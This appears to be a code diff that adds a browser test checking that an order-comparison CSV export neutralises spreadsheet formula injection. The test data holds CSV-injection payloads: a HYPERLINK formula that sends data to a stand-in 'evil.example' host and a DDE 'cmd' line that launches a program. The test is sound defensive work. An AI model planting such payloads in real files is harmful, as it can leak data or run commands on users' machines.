@@ -102,6 +102,23 @@ if (chromiumPresent("console desk test")) {
       assert.equal(await readFile(await download.path(), "utf8"), "variantExternalId,code,quantity,minQuantity,maxQuantity,quantityIncrement\nSKU-B,above_max,9,0,5,\n");
     });
 
+    it("order check: an export neutralizes the cells a spreadsheet would run as formulas, as the API's exports do", TIMEOUT, async () => {
+      // Variants no Operation holds come back as they were sent, so the report's export writes them.
+      const formulas = ['=HYPERLINK("http://evil.example/?leak","Open me")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
+      await page.getByLabel("Order lines").fill(["variantExternalId\tquantity", ...formulas.map((variant) => `${variant}\t1`)].join("\n"));
+      await page.getByRole("button", { name: "Compare" }).click();
+      await page.getByRole("region", { name: /discrepancies/ }).waitFor();
+      await page.getByLabel("Discrepancy").selectOption("not_in_operation");
+      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV (4)" }).click()]);
+      const rows = (await readFile(await download.path(), "utf8")).trimEnd().split("\n").slice(1).sort();
+      assert.deepEqual(rows, [
+        `"'=HYPERLINK(""http://evil.example/?leak"",""Open me"")",not_in_operation,1,,,`,
+        "'+1+cmd|' /C calc'!A0,not_in_operation,1,,,",
+        "'-2+3,not_in_operation,1,,,",
+        "'@SUM(1+1),not_in_operation,1,,,",
+      ]);
+    });
+
     it("order check: a bad order is named row by row, and the API's refusal of a repeated variant is shown", TIMEOUT, async () => {
       await page.getByLabel("Order lines").fill("SKU-A,3\nSKU-B,many\nSKU-C,6");
       await page.getByRole("button", { name: "Compare" }).click();
